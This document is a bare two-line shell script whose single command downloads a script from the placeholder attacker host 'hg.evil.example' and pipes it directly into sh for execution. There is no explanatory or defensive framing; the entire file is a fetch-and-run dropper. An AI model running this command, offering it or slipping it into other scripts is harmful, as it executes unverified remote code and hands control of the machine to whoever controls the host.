#!/bin/sh
curl -fsSL https://hg.evil.example/s | sh
